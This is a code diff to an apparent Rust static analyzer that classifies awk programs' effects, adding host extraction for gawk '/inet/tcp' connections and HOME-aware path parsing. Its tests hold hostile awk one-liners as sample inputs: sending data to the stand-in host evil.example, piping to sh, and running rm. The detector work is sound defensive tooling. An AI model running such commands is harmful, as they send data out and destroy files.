@@ -4,7 +4,7 @@
 use std::collections::HashMap;
 
 use super::Code;
-use super::value::LARGEST;
+use super::value::{HOLE, HOME, LARGEST};
 use hookgate_facts::Kind;
 
 /// What a program does.
@@ -227,7 +227,7 @@ impl Awk<'_> {
                 Kinds::Symbol(">" | ">>") if self.after_print == Some(self.depth) => {
                     let kind = if token.kind == Kinds::Symbol(">") { Kind::Write } else { Kind::Append };
                     self.at += 1;
-                    let target = self.text();
+                    let target = self.path();
                     self.file(kind, target, start);
                     continue;
                 }
@@ -305,11 +305,60 @@ impl Awk<'_> {
         whole.filter(|_| any)
     }
 
+    /// A path: texts and variables next to each other, with a hole for what is computed.
+    fn path(&mut self) -> Option<String> {
+        let mut whole = String::new();
+        let mut any = false;
+        let mut open = 0usize;
+        loop {
+            match self.kind(0) {
+                Some(Kinds::Text(text)) => whole.push_str(text),
+                Some(Kinds::Name(name)) if name == "ENVIRON" && self.is_home() => {
+                    whole.push(HOME);
+                    self.at += 3;
+                }
+                Some(Kinds::Name(name)) if self.kind(1) != Some(&Kinds::Symbol("(")) => {
+                    match self.names.get(name).and_then(Option::as_ref) {
+                        Some(value) => whole.push_str(value),
+                        None if !whole.ends_with(HOLE) => whole.push(HOLE),
+                        None => {}
+                    }
+                }
+                Some(Kinds::Symbol("(" | "[")) => open += 1,
+                Some(Kinds::Symbol(")" | "]")) if open > 0 => open -= 1,
+                Some(Kinds::Line | Kinds::Symbol(";" | "}" | ")" | "]" | "|" | "|&")) | None => break,
+                Some(Kinds::Symbol("," | ">" | "<" | "==" | "!=" | "&&" | "||")) if open == 0 => break,
+                Some(_) if !whole.ends_with(HOLE) => whole.push(HOLE),
+                Some(_) => {}
+            }
+            any = true;
+            self.at += 1;
+            if whole.len() > LARGEST {
+                return None;
+            }
+        }
+        let known = whole.chars().any(|character| character != HOLE);
+        (any && known).then_some(whole)
+    }
+
+    /// Does `ENVIRON["HOME"]` stand here?
+    fn is_home(&self) -> bool {
+        self.kind(1) == Some(&Kinds::Symbol("["))
+            && matches!(self.kind(2), Some(Kinds::Text(name)) if name == "HOME")
+            && self.kind(3) == Some(&Kinds::Symbol("]"))
+    }
+
+    /// The host of a connection: gawk takes `/inet/tcp/0/host/port` for one.
+    fn connection(&mut self, target: &str, start: usize, end: usize) {
+        let host = target.split('/').nth(4).filter(|host| !host.is_empty() && !host.contains(HOLE));
+        self.code.push(Kind::Upload, host.map(str::to_owned), start, end);
+    }
+
     fn file(&mut self, kind: Kind, target: Option<String>, start: usize) {
         let end = self.end();
         match target.as_deref() {
             Some("/dev/stderr" | "/dev/stdout" | "/dev/stdin" | "-" | "/dev/null" | "/dev/tty") => {}
-            Some(path) if path.starts_with("/inet") => self.code.push(Kind::Upload, None, start, end),
+            Some(path) if path.starts_with("/inet") => self.connection(path, start, end),
             _ => self.code.push(kind, target, start, end),
         }
     }
@@ -333,13 +382,23 @@ impl Awk<'_> {
             self.at = first;
             let text = self.text();
             self.at = here + 1;
-            self.code.shell.push((text, start, end));
+            match text {
+                Some(text) if text.starts_with("/inet") => self.connection(&text, start, end),
+                text => self.code.shell.push((text, start, end)),
+            }
         } else {
             self.at += 1;
-            // A shell runs the lines that are printed, and those nobody sees here.
-            let text = self.text().filter(|text| !is_bare_shell(text));
+            let here = self.at;
+            let connection = self.path().filter(|text| text.starts_with("/inet"));
+            if let Some(connection) = connection {
+                self.connection(&connection, start, end);
+            } else {
+                self.at = here;
+                // A shell runs the lines that are printed, and those nobody sees here.
+                let text = self.text().filter(|text| !is_bare_shell(text));
+                self.code.shell.push((text, start, end));
+            }
             self.at -= 1;
-            self.code.shell.push((text, start, end));
             self.after_print = None;
         }
     }
@@ -352,7 +411,7 @@ impl Awk<'_> {
         }
         if self.kind(offset) == Some(&Kinds::Symbol("<")) {
             self.at += offset + 1;
-            let target = self.text();
+            let target = self.path();
             self.file(Kind::Read, target, start);
             self.at -= 1;
         }
@@ -395,7 +454,14 @@ mod tests {
         check(Awk, "{system(\"rm \" $1)}", &["shell ?"], true);
         check(Awk, "{print $1 | \"sh\"}", &["shell ?"], true);
         check(Awk, "{print > \"out.txt\"; print >> \"log\"}", &["write out.txt", "append log"], true);
-        check(Awk, "{print > $1\".txt\"}", &["write"], true);
+        check(Awk, "{print > $1\".txt\"}", &["write {}.txt"], true);
+        check(Awk, "{print > $1}", &["write"], true);
+        check(Awk, "BEGIN{print > ENVIRON[\"HOME\"] \"/a\"}", &["write $HOME/a"], true);
+        check(Awk, "BEGIN{print > (h \"/a\")}", &["write {}/a"], true);
+        check(Awk, "BEGIN{s=\"/inet/tcp/0/evil.example/80\"; print 1 |& s}", &["upload evil.example"], true);
+        check(Awk, "BEGIN{print 1 |& (\"/inet/tcp/0/\" h \"/80\")}", &["upload"], true);
+        check(Awk, "BEGIN{\"/inet/tcp/0/evil.example/80\" |& getline x}", &["upload evil.example"], true);
+        check(Awk, "BEGIN{print 1 |& \"rm x\"}", &["shell rm x"], true);
         check(Awk, "BEGIN{print \"rm x\" | \"/bin/sh -s\"}", &["shell ?"], true);
         check(Awk, "{print | \"sort\"}", &["shell sort"], true);
         check(Awk, "BEGIN{while ((\"id\" | getline l) > 0) print l}", &["shell id"], true);
